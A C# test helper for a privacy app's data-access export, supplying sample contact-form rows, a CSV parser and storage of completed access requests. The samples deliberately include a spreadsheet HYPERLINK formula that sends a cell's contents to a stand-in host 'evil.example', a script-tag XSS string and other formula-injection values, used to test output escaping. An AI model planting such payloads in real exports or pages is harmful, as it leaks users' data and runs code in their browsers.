using System.IO.Compression;
using System.Text;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Vern.Data;
using Vern.Features.Model;
using Vern.Features.Rights;
using Vern.Features.Rights.Access;
using Vern.Features.Subjects;
using Vern.Infrastructure.Privacy;
using Vern.Tests.Infrastructure;

namespace Vern.Tests.Rights;

/// <summary>Sources, packages and stored download links for the access package tests.</summary>
internal static class AccessPackageSamples
{
    public static readonly DateTimeOffset CreatedAt = new(2027, 3, 1, 9, 30, 0, TimeSpan.Zero);

    public const string Formula = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Click\")";
    public const string Script = "<script>alert('x')</script>";
    public const string Multiline = "Første linje, med komma\r\nandre linje med \"sitat\"";

    /// <summary>Values people could have typed, chosen to break HTML, CSV and spreadsheets.</summary>
    public static SourceExport Contacts() => new(
        "contacts", "Contact form messages", "You, through the contact form", Portable: true,
        ["Sent", "Name", "Message", "Note"],
        [
            ["2027-01-02", "Åse Ødegård, Bærum", Script, Formula],
            ["2027-01-03", "+47 400 00 000", Multiline, null],
            ["2027-01-04", "-1", "@SUM(A1:A2)", "Plain æøå"],
        ]);

    public static SourceExport Statistics() => new(
        "site-statistics", "Website statistics", "Your browser", Portable: false,
        ["Visited", "Page"],
        [["2027-02-01", "/pricing"]]);

    public static DataSubject Subject(Guid? id = null) =>
        new(id ?? Guid.Parse("0190f5a0-0000-7000-8000-000000000001"), "ase@example.no", ["v-123", "v-456"]);

    public static Dictionary<string, byte[]> Unzip(byte[] zip)
    {
        using var archive = new ZipArchive(new MemoryStream(zip), ZipArchiveMode.Read);
        return archive.Entries.ToDictionary(e => e.FullName, e =>
        {
            using var stream = e.Open();
            using var copy = new MemoryStream();
            stream.CopyTo(copy);
            return copy.ToArray();
        });
    }

    public static string Text(byte[] bytes) => new StreamReader(new MemoryStream(bytes), Encoding.UTF8, detectEncodingFromByteOrderMarks: true).ReadToEnd();

    public static PrivacyModel DefaultModel(TestApp app) => app.Get<ModelStore>().Current.Model;

    /// <summary>A person with a completed access request and its package stored behind a link, as fulfilment stores it.</summary>
    public static async Task<(Guid SubjectId, Guid RequestId, string Token)> StoreAsync(TestApp app, string email, byte[] zip)
    {
        await using var scope = app.CreateScope();
        var db = scope.ServiceProvider.GetRequiredService<AppDb>();
        var vault = scope.ServiceProvider.GetRequiredService<SubjectVault>();
        var time = scope.ServiceProvider.GetRequiredService<TimeProvider>();
        var subject = await vault.AddAsync(new PersonalDetails(email));
        var request = new RightsRequest
        {
            Id = Guid.CreateVersion7(time.GetUtcNow()),
            Type = RightsRequestType.Access,
            Status = RightsRequestStatus.Completed,
            SubjectId = subject.Id,
            ReceivedAt = time.GetUtcNow().UtcDateTime,
            DueDate = DateOnly.FromDateTime(time.GetUtcNow().UtcDateTime).AddMonths(1),
        };
        db.RightsRequests.Add(request);
        var lifetime = AccessPackages.Lifetime(scope.ServiceProvider.GetRequiredService<IConfiguration>());
        var token = await AccessPackages.CreateAsync(db, vault, time, lifetime, request, zip, CancellationToken.None);
        await db.SaveChangesAsync();
        return (subject.Id, request.Id, token);
    }

    /// <summary>RFC 4180, read strictly: quoted fields may hold commas, doubled quotes and line breaks.</summary>
    public static List<List<string>> ParseCsv(string csv)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                    quoted = false;
                else
                    field.Append(c);
            }
            else if (c == '"')
                quoted = true;
            else if (c == ',')
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add(row);
                row = [];
                i++;
            }
            else
                field.Append(c);
        }
        Assert.True(field.Length == 0 && row.Count == 0, "The CSV ends with CRLF");
        return rows;
    }
}
